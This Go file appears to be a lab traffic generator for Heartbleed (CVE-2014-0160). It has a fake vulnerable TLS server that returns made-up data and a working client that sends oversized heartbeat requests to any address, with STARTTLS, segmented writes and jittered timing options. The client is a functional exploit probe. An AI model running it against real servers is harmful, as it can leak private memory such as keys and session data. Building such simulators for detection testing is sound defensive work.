package actor

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"math/big"
	"math/rand/v2"
	"net"
	"strings"
	"time"
)

const (
	recordHandshake = 22
	recordAlert     = 21
	recordHeartbeat = 24
	tls11           = 0x0302
)

// bleed answers on a port as a TLS server with CVE-2014-0160 does: the greeting, a
// certificate, and to a heartbeat as many bytes as the heartbeat claims to hold. It
// reads no memory: what it gives back is made up.
func bleed(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("bleed", flag.ContinueOnError)
	listen := f.String("listen", ":443", "address")
	mail := f.Bool("starttls", false, "speak SMTP until TLS is asked for")
	if err := Parse(f, args); err != nil {
		return err
	}
	cert, err := selfSigned()
	if err != nil {
		return err
	}
	l, err := net.Listen("tcp", *listen)
	if err != nil {
		return err
	}
	go func() { <-ctx.Done(); l.Close() }()
	for {
		c, err := l.Accept()
		if err != nil {
			return nil
		}
		go func() {
			defer c.Close()
			if *mail && !startTLS(c) {
				return
			}
			_ = bleedTo(c, cert) // a client that leaves is no error
		}()
	}
}

// startTLS speaks SMTP up to the point at which TLS begins.
func startTLS(c net.Conn) bool {
	_ = c.SetDeadline(time.Now().Add(time.Minute))
	fmt.Fprint(c, "220 mail.lab ESMTP\r\n")
	line := make([]byte, 1)
	for said := ""; ; {
		if _, err := c.Read(line); err != nil || len(said) > 512 {
			return false
		}
		if said += string(line); line[0] != '\n' {
			continue
		}
		if strings.HasPrefix(said, "STARTTLS") {
			fmt.Fprint(c, "220 go ahead\r\n")
			return true
		}
		fmt.Fprint(c, "250-mail.lab\r\n250 STARTTLS\r\n")
		said = ""
	}
}

func bleedTo(c net.Conn, cert []byte) error {
	for {
		_ = c.SetDeadline(time.Now().Add(time.Minute))
		kind, body, err := readRecord(c)
		if err != nil {
			return err
		}
		switch {
		case kind == recordHandshake && len(body) > 0 && body[0] == 1: // ClientHello
			hello := make([]byte, 38)
			binary.BigEndian.PutUint16(hello, tls11)
			_, _ = crand.Read(hello[2:34])
			hello = append(hello[:34], 0, 0xc0, 0x14, 0, 0, 5, 0, 15, 0, 1, 1) // no session, a suite, heartbeat extension
			chain := append(u24(len(cert)), cert...)
			for _, m := range [][]byte{message(2, hello), message(11, append(u24(len(chain)), chain...)), message(14, nil)} {
				if err := writeRecord(c, recordHandshake, m); err != nil {
					return err
				}
			}
		case kind == recordHeartbeat && len(body) >= 3:
			n := int(binary.BigEndian.Uint16(body[1:3]))
			leak := make([]byte, 3+n+16)
			leak[0] = 2
			binary.BigEndian.PutUint16(leak[1:], uint16(n))
			copy(leak[3:], "Cookie: session=8f3a; user=alice; Accept-Language: en\r\n")
			for len(leak) > 0 {
				part := min(len(leak), 16384)
				if err := writeRecord(c, recordHeartbeat, leak[:part]); err != nil {
					return err
				}
				leak = leak[part:]
			}
		case kind == recordAlert:
			return nil
		}
	}
}

// heartbeat greets a TLS server and asks it for more than it sends, some times.
func heartbeat(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("heartbeat", flag.ContinueOnError)
	to := f.String("to", "", "address:port")
	reads := f.Int("reads", 5, "heartbeats a connection")
	conns := f.Int("connections", 1, "connections one after the other")
	size := f.Int("size", 16384, "bytes to ask for, up to 65535")
	every := f.Duration("every", time.Second, "between heartbeats")
	mail := f.Bool("starttls", false, "ask a mail server for TLS first")
	part := f.Int("segment", 0, "send no more bytes at once than that")
	if err := Parse(f, args); err != nil {
		return err
	}
	for range *conns {
		if err := bleedFrom(ctx, *to, *mail, *part, *reads, *size, *every); err != nil {
			return err
		}
		wait(ctx, *every)
	}
	return nil
}

func bleedFrom(ctx context.Context, to string, mail bool, part, reads, size int, every time.Duration) error {
	c, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", to)
	if err != nil {
		return err
	}
	defer c.Close()
	if mail {
		for _, say := range []string{"", "EHLO client\r\n", "STARTTLS\r\n"} {
			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
			fmt.Fprint(c, say)
			if _, err := c.Read(make([]byte, 512)); err != nil {
				return err
			}
		}
	}
	if part > 0 {
		c = pieces{c, part}
	}
	hello := make([]byte, 34)
	binary.BigEndian.PutUint16(hello, tls11)
	_, _ = crand.Read(hello[2:])
	hello = append(hello, 0, 0, 10, 0xc0, 0x14, 0xc0, 0x0a, 0, 0x39, 0, 0x35, 0, 0x2f, 1, 0, 0, 5, 0, 15, 0, 1, 1)
	if err := writeRecord(c, recordHandshake, message(1, hello)); err != nil {
		return err
	}
	for done := false; !done; { // to ServerHelloDone
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		kind, body, err := readRecord(c)
		if err != nil {
			return err
		}
		done = kind == recordHandshake && len(body) > 0 && body[0] == 14
	}
	for range reads {
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		if err := writeRecord(c, recordHeartbeat, []byte{1, byte(size >> 8), byte(size)}); err != nil {
			return err
		}
		for got := 0; got < size; {
			_, body, err := readRecord(c)
			if err != nil {
				return err
			}
			got += len(body)
		}
		wait(ctx, time.Duration(float64(every)*(0.5+rand.Float64())))
	}
	return nil
}

func readRecord(r io.Reader) (kind byte, body []byte, err error) {
	var h [5]byte
	if _, err = io.ReadFull(r, h[:]); err != nil {
		return 0, nil, err
	}
	body = make([]byte, binary.BigEndian.Uint16(h[3:]))
	_, err = io.ReadFull(r, body)
	return h[0], body, err
}

func writeRecord(w io.Writer, kind byte, body []byte) error {
	b := append([]byte{kind, tls11 >> 8, tls11 & 0xff, byte(len(body) >> 8), byte(len(body))}, body...)
	_, err := w.Write(b)
	return err
}

func message(kind byte, body []byte) []byte {
	return append(append([]byte{kind}, u24(len(body))...), body...)
}

func u24(n int) []byte { return []byte{byte(n >> 16), byte(n >> 8), byte(n)} }

func selfSigned() ([]byte, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), crand.Reader)
	if err != nil {
		return nil, fmt.Errorf("making a key: %w", err)
	}
	t := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "bleeding.lab"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour)}
	return x509.CreateCertificate(crand.Reader, t, t, &key.PublicKey, key)
}

// pieces is a connection that writes a few bytes at once.
type pieces struct {
	net.Conn
	size int
}

func (p pieces) Write(b []byte) (n int, err error) {
	for n < len(b) && err == nil {
		var m int
		m, err = p.Conn.Write(b[n:min(len(b), n+p.size)])
		n += m
		time.Sleep(5 * time.Millisecond)
	}
	return n, err
}
